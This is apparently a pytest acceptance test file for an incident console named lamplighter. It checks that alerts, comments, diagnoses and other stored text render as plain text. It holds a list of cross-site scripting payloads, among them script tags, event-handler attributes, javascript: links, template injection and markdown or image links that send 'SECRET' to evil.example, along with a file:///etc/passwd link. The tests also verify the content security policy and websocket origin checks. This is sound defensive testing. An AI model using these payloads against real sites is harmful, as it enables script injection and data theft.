"""A10, A11: whatever alerts, labels, logs and people say is text in the console: no script runs, nothing is fetched."""

from __future__ import annotations

import json
from contextlib import closing
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from lamplighter.domain.cause import Cause, Diagnosis, RuledOut
from lamplighter.domain.evidence import Evidence, Fact
from lamplighter.domain.lesson import Lesson
from lamplighter.domain.plan import Action, Plan, Risk, Target, Verb
from lamplighter.domain.timeline import Crew, Event, Moment
from lamplighter.store import open_store
from lamplighter.workflow.clock import SystemClock
from tests.acceptance.console.conftest import Visiting
from tests.acceptance.signals.conftest import Part, Stage, Stages, stamp

# The one link that leads elsewhere: it stands in a template, whatever anybody says.
BOTFATHER = "https://t.me/BotFather"
EVIL = "http://evil.example"
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src={EVIL}/q.png>",
    "<svg/onload=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import url({EVIL}/x.css);</style>",
    f"<form action={EVIL}><button>x</button></form>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<object data=javascript:window.pwned=1></object>",
    "'\" onmouseover=window.pwned=1 x='",
    "`${window.pwned=1}` ${constructor.constructor('window.pwned=1')()}",
    "{{ constructor.constructor('window.pwned=1')() }} {% raw %}",
    f"![x]({EVIL}/?q=SECRET) [x](javascript:window.pwned=1)",
    f"[click]({EVIL}/?q=SECRET 'title') <{EVIL}/>",
    "<x-y v-html=\"'<img src=x onerror=window.pwned=1>'\"></x-y>",
    "<!--<img src='--><img src=x onerror=window.pwned=1>'>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#36;{window.pwned=1}",
)
BAD_LINKS = ("javascript:window.pwned=1", "data:text/html,<script>1</script>", "file:///etc/passwd", "//evil.example/x")
ALL = " ".join(PAYLOADS)


@pytest.fixture(scope="module")
def stage(stages: Stages) -> Stage:
    made = stages.new(Part("calm", allowed=False), autonomy={"mode": "ask"})
    for number, payload in enumerate(PAYLOADS):
        link = BAD_LINKS[number % len(BAD_LINKS)]
        raised(made, f"Evil{number} {payload}", payload, link)
    made.settled()
    return made


def raised(stage: Stage, name: str, said: str, link: str) -> None:
    """One alert that says it in every place where an alert says something."""
    labels = {"alertname": name, "container": said[:200], "severity": "critical", "job": said}
    notes = {"summary": name, "description": said, "runbook_url": link, said[:60]: said}
    now = stamp(stage.now())
    one = {"status": "firing", "labels": labels, "annotations": notes, "startsAt": now, "generatorURL": link}
    assert stage.send({**one, "endsAt": "0001-01-01T00:00:00Z"}).status_code == httpx.codes.ACCEPTED


def found_out(stage: Stage, incident: dict[str, Any], said: str) -> None:
    """A diagnosis, a plan, a question, an attempt, a lesson and events in which everything says it."""
    now, run, identity = datetime.now(UTC), incident["run"], incident["id"]
    begin = now.timestamp() - 2400
    values = [[begin + 15 * place, str(1 + place // 80)] for place in range(160)]
    series = {"metric": {"__name__": said[:120], "container": said}, "values": values}
    content = json.dumps({"status": "success", "data": {"resultType": "matrix", "result": [series]}})
    piece = Evidence("e1", "prometheus.query_range", said, {"query": said}, "application/json", content, now)
    moved: dict[str, str | float] = {"metric": said[:120], "before": 1.0, "after": 2.0}
    facts = (
        Fact("f1", "e1", said, "metric_shift", said, now - timedelta(minutes=20), said, moved),
        Fact("f2", "e2", said, "change", said, now - timedelta(hours=1), said),
        Fact("f3", "e3", said, "log_error", said, None, said),
    )
    causes = (
        Cause(1, said, said, 0.8, "likely", said, ("f1", "f2"), immediate=(said,), prevention=(said,)),
        Cause(2, "nas", said, 0.2, "possible", said, ("f3",), ("f2",)),
    )
    found = Diagnosis(causes, facts, (RuledOut(said, said, ("f3",)),), needs=(said,), statement=said)
    action = Action(Verb.RESTART, Target("outside", said, said, said), {}, Risk.HIGH, effect=said, undo=said)
    plan = Plan(identity, run, said, said, 0.9, (action,), verify=said, advice=said)
    with closing(open_store(f"sqlite:///{stage.data / 'lamplighter.db'}", clock=SystemClock())) as store:
        store.dossiers.keep_evidence(identity, run, (piece,))
        store.dossiers.keep_diagnosis(identity, run, found)
        store.dossiers.keep_plan(plan)
        store.lessons.keep(f"{identity}:seen", Lesson(identity, "t", said, said, (said,), said, 0.9, 60.0, now))
        for moment in (Moment.DIAGNOSED, Moment.COMMENTED, Moment.VOTED):
            data: dict[str, object] = {"member": said, "in_favour": True, "reason": said}
            key = f"{run}:{moment}:{now.timestamp()}"
            store.incidents.record(Event(identity, key, now, moment, Crew.ANALYST, said, data))


@pytest.mark.parametrize("scheme", ["dark", "light"])
def test_no_script_of_anybody_runs_and_nothing_is_fetched_from_elsewhere(
    stage: Stage, visiting: Visiting, scheme: str
) -> None:
    incident = stage.incident_titled("Evil0")
    found_out(stage, incident, ALL)
    stage.post(f"/api/v1/incidents/{incident['id']}/comments", {"text": ALL[:4000]}, 201)
    stage.post(f"/api/v1/incidents/{incident['id']}/acknowledge", {"by": PAYLOADS[2]})
    paths = (
        *(
            "/",
            "/incidents?status=all",
            f"/incidents/{incident['id']}",
            "/approvals",
            "/components",
            "/settings",
            "/welcome",
        ),
        *("/alerts", f"/incidents?q={PAYLOADS[0]}&status=all", f"/incidents/{incident['id']}?plain=1"),
    )
    with visiting(stage, "admin" if scheme == "dark" else "operator", color_scheme=scheme) as visit:
        for path in paths:
            page = visit.page
            page.goto(path)
            page.wait_for_selector("h1", state="attached")
            page.wait_for_timeout(300)
            for element in page.locator("summary").all():
                element.click()
            page.mouse.move(300, 300)
            assert page.evaluate("window.pwned") is None, path
            hostile = "main img, main iframe, main object, main script, main style, main link, main base, main meta"
            assert page.locator(hostile).count() == 0, path
            named = "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name))"
            assert page.evaluate(f"{named}.filter((name) => /^on/.test(name))") == [], path
            links = page.evaluate("[...document.querySelectorAll('main a')].map((a) => a.getAttribute('href'))")
            assert not [link for link in links if not link.startswith(("/", "#")) and link != BOTFATHER], path
            assert visit.fits(), path


def test_a_hostile_text_that_comes_while_the_page_is_open_is_text_too(stage: Stage, visiting: Visiting) -> None:
    incident = stage.incident_titled("Evil1")
    with visiting(stage, "viewer") as visit:
        page = visit.go(f"/incidents/{incident['id']}")
        for payload in PAYLOADS:
            stage.post(f"/api/v1/incidents/{incident['id']}/comments", {"text": f"later {payload}"}, 201)
        page.wait_for_selector(f".story >> text=later {PAYLOADS[-1][:20]}")
        assert page.evaluate("window.pwned") is None
        assert PAYLOADS[2] in page.inner_text(".story")
        found_out(stage, incident, ALL)
        stage.post(f"/api/v1/incidents/{incident['id']}/comments", {"text": "look again"}, 201)
        page.wait_for_selector(".facts >> text=window.pwned")
        assert page.evaluate("window.pwned") is None
        assert page.locator("main img, main script, main iframe").count() == 0


def test_a_link_of_an_alert_shows_where_it_leads_and_takes_nothing_along(stage: Stage, visiting: Visiting) -> None:
    raised(stage, "Linked", "linked", "https://runbooks.example.org/jellyfin/slow.md?from=alert")
    incident = stage.incident_titled("Linked")
    with visiting(stage, "viewer") as visit:
        page = visit.go(f"/incidents/{incident['id']}")
        link = page.locator(".links a").first
        assert "runbooks.example.org/jellyfin/slow.md" in link.inner_text()
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"


def test_the_policy_of_a_page_allows_no_inline_and_no_evaluated_script(stage: Stage, visiting: Visiting) -> None:
    with visiting(stage, "viewer") as visit:
        visit.go("/")
        answer = visit.page.goto("/")
        assert answer is not None
        policy = answer.headers["content-security-policy"]
        assert "unsafe" not in policy
        assert "default-src 'none'" in policy
        assert "frame-ancestors 'none'" in policy
        first = policy
        answer = visit.page.goto("/")
        assert answer is not None
        assert answer.headers["content-security-policy"] != first
        # What the test's own tool evaluates may evaluate; what the page does later may not.
        visit.page.evaluate("() => { setTimeout('window.evaluated = 1', 0); }")
        visit.page.wait_for_timeout(300)
        assert visit.page.evaluate("window.evaluated") is None
        assert any("unsafe-eval" in said for said in visit.complaints)
        visit.complaints.clear()


def test_a_stranger_and_another_site_get_no_socket(stage: Stage, visiting: Visiting) -> None:
    path = f"http://127.0.0.1:{stage.port}/_nicegui_ws/socket.io/?EIO=4&transport=websocket&client_id=x"
    handshake = {
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
    }
    with visiting(stage, "viewer") as visit:
        visit.go("/")
        kept = {one["name"]: one["value"] for one in visit.page.context.cookies()}
    own = f"http://127.0.0.1:{stage.port}"

    def asked(origin: str, cookies: dict[str, str]) -> int:
        headers = {**handshake, "Origin": origin}
        with (
            httpx.Client(cookies=cookies, trust_env=False) as client,
            client.stream("GET", path, headers=headers) as got,
        ):
            return got.status_code

    assert asked(own, {}) == httpx.codes.FORBIDDEN
    assert asked(EVIL, kept) == httpx.codes.FORBIDDEN
    assert asked(own, kept) == httpx.codes.SWITCHING_PROTOCOLS
